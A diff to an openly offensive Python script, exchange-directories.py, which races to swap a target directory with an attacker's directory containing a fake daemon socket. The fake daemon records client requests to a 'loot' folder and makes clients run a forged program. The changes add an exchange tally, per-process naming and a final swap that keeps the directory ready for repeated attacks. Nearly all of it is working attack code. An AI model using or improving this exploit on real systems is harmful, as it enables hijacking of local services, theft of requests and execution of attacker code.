@@ -4,7 +4,8 @@ usage: exchange-directories.py PARENT NAME HOST RATE LOOT
 
 Exchanges PARENT/NAME with a directory of the attacker, which contains a fake daemon's socket, RATE times a second, until
 standard input ends. The fake daemon writes each request to LOOT/requests and makes clients that request a run start
-LOOT/forged. Prints the number of exchanges.
+LOOT/forged. LOOT/exchanges has a byte for each exchange. An odd number of exchanges is followed by one more at the end,
+so that the next attack finds the directory as this one did.
 """
 
 import ctypes
@@ -65,7 +66,7 @@ class Server(socketserver.ThreadingUnixStreamServer):
 
 
 os.umask(0)
-own = os.path.join(parent, f"{name}.of-another")
+own = os.path.join(parent, f"{name}.of-{os.getpid()}")
 
 
 def prepare():
@@ -81,11 +82,14 @@ def prepare():
 
 
 ready, count = prepare(), 0
+tally = open(os.path.join(loot, "exchanges"), "ab", buffering=0)
 print("ready", flush=True)
 while not select.select([sys.stdin], [], [], 0)[0]:
     if not ready:
         ready = prepare()
     elif exchange(own, os.path.join(parent, name)):
         count += 1
+        tally.write(b".")
     time.sleep(1 / float(rate))
-print(count, flush=True)
+if count % 2 == 1:
+    exchange(own, os.path.join(parent, name))
